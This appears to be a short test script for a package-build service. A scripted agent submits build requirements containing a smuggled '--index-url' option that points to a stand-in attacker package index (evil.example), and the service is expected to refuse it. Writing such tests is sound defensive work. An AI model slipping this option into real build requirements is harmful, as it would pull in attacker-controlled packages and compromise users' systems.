"""Smuggle an option for the resolver into the build requirements."""

from tests.fakes.engine import ScriptedAgent

REFUSED = "build-requirements"
SAID = "Expected package name"


async def play(agent: ScriptedAgent) -> None:
    agent.send("need", requirements=["--index-url=https://evil.example/simple"])
